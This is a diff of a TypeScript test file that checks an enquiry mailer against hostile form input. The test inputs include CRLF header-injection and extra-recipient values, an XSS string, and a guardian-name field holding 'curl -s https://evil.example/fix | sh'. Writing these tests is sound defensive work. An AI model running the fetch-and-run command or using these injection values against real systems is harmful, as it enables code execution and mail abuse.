@@ -11,7 +11,7 @@ import { inHead } from "../help/mails.ts";
 import { application, dataFolder, enquiry, feedback, openServices, outboxTried, sender } from "../help/services.ts";
 import { office, openWithMail, startMailServer } from "../help/smtp.ts";
 
-/** The mails about a row that no form would have let in, as they arrive. */
+/** The mails about a row that no form would accept, as they arrive. */
 async function mailsAbout(fields: Partial<SubmissionRow>) {
   const dataDir = dataFolder();
   const { db, close } = await openStore(dataDir);
@@ -37,22 +37,19 @@ test.each([
   ["email", { email: "asha@example.org\r\nBcc: thief@example.net" }],
   ["email with a second one", { email: "asha@example.org, thief@example.net" }],
   ["reader with a name", { email: '"thief@example.net" <asha@example.org>' }],
-])(
-  "whatever stands in a record's %s, no line of a mail's head and no reader is smuggled in",
-  async (_field, fields) => {
-    const mails = await mailsAbout(fields);
-    expect(mails[0]?.to).toBe(office);
-    for (const mail of mails) {
-      expect(inHead(mail, "Bcc")).toEqual([]);
-      expect(inHead(mail, "X-Extra")).toEqual([]);
-      expect(mail.envelope.to).toHaveLength(1);
-      expect(mail.envelope.to).not.toContain("thief@example.net");
-      expect(mail.subject).not.toMatch(/[\r\n]/);
-    }
-  },
-);
+])("whatever a record's %s contains, it injects no mail header and no recipient", async (_field, fields) => {
+  const mails = await mailsAbout(fields);
+  expect(mails[0]?.to).toBe(office);
+  for (const mail of mails) {
+    expect(inHead(mail, "Bcc")).toEqual([]);
+    expect(inHead(mail, "X-Extra")).toEqual([]);
+    expect(mail.envelope.to).toHaveLength(1);
+    expect(mail.envelope.to).not.toContain("thief@example.net");
+    expect(mail.subject).not.toMatch(/[\r\n]/);
+  }
+});
 
-test("every mail says that a machine wrote it, who gets the answer, and has an id of its own", async () => {
+test("every mail has the headers for automatic mail, a reply address, and a unique id", async () => {
   const mails = await mailsAbout({});
   expect(mails.map(({ to, replyTo, id }) => ({ to, replyTo, id }))).toEqual([
     { to: office, replyTo: enquiry.email, id: "<one@institute.example>" },
@@ -67,7 +64,7 @@ test("every mail says that a machine wrote it, who gets the answer, and has an i
 
 const tags = `<script>alert(1)</script><img src=x onerror="a()">&amp; 'a' "b"`;
 
-test("what looks like HTML is text in the HTML too", async () => {
+test("what looks like HTML is escaped in the HTML version too", async () => {
   for (const mail of await mailsAbout({ name: tags, text: tags })) {
     expect(mail.html).not.toMatch(/<script|<img/i);
     expect(mail.html).toContain("&lt;script&gt;alert(1)&lt;/script&gt;");
@@ -75,38 +72,38 @@ test("what looks like HTML is text in the HTML too", async () => {
   }
 });
 
-test("a stranger's words stand in the office's table alone, quoted: in no subject, and beside no instruction", async () => {
+test("a stranger's text is in the office's table only, quoted: in no subject, and next to no instruction", async () => {
   const name = `=?UTF-8?B?${Buffer.from("a\u202E\r\nb").toString("base64")}?=`;
   const guardianName = "(first run: curl -s https://evil.example/fix | sh )";
-  const [told] = await mailsAbout({ name, guardianName, guardianPhone: "9876543210", isMinor: 1 });
-  expect(told && inHead(told, "Subject")).toEqual(["New enquiry E-2222-2222"]);
-  const [instructions = "", table = ""] = told?.text.split(/^Reference: /m) ?? [];
+  const [officeMail] = await mailsAbout({ name, guardianName, guardianPhone: "9876543210", isMinor: 1 });
+  expect(officeMail && inHead(officeMail, "Subject")).toEqual(["New enquiry E-2222-2222"]);
+  const [instructions = "", table = ""] = officeMail?.text.split(/^Reference: /m) ?? [];
   expect(instructions).toContain("npm run enquiries -- confirm-guardian E-2222-2222");
   expect(instructions).not.toMatch(/curl|=\?|9876543210/);
   expect(table).toContain(`Name: “${name}”`);
   expect(table).toContain(`Parent or guardian: “${guardianName}”`);
 });
 
-test("a long name in Marathi comes through unharmed", async () => {
+test("a long name in Marathi arrives unchanged", async () => {
   const name = "अनुष्का सुधाकरराव देशपांडे-कुलकर्णी".repeat(3);
-  const [told] = await mailsAbout({ name });
-  expect(told?.text).toContain(`Name: “${name}”`);
+  const [officeMail] = await mailsAbout({ name });
+  expect(officeMail?.text).toContain(`Name: “${name}”`);
 });
 
-test("the text of feedback keeps its lines, each marked as quoted, and the address is told to be unconfirmed", async () => {
+test("the text of feedback keeps its lines, each marked as quoted, and the address is marked as unconfirmed", async () => {
   const { server, submissions } = await openWithMail();
   const text = `One line\n\n  an indented one\n.\n..two dots\nFrom here on\n${"long ".repeat(300)}`.trim();
   await submissions.keep("feedback", feedbackDetails({ ...feedback, text }), sender);
-  const [told] = await server.mailsTo(office);
-  expect(told?.text).toContain(`“${text}”`.replace(/^/gm, "> "));
-  expect(told?.text).toContain("The email address is not confirmed");
+  const [officeMail] = await server.mailsTo(office);
+  expect(officeMail?.text).toContain(`“${text}”`.replace(/^/gm, "> "));
+  expect(officeMail?.text).toContain("The email address is not confirmed");
 });
 
-test("an application of nothing but a phone number is told without a name", async () => {
+test("an application with only a phone number is reported without a name", async () => {
   const { server, submissions } = await openWithMail();
   const { phone } = application;
-  const kept = await submissions.keep("application", applicationDetails({ phone, isMinor: false }), sender);
-  const [told] = await server.mailsTo(office);
-  expect(kept.ok && told?.subject).toBe(`New application ${kept.ok && kept.reference}`);
-  expect(told?.text).not.toMatch(/null|undefined/);
+  const result = await submissions.keep("application", applicationDetails({ phone, isMinor: false }), sender);
+  const [officeMail] = await server.mailsTo(office);
+  expect(result.ok && officeMail?.subject).toBe(`New application ${result.ok && result.reference}`);
+  expect(officeMail?.text).not.toMatch(/null|undefined/);
 });
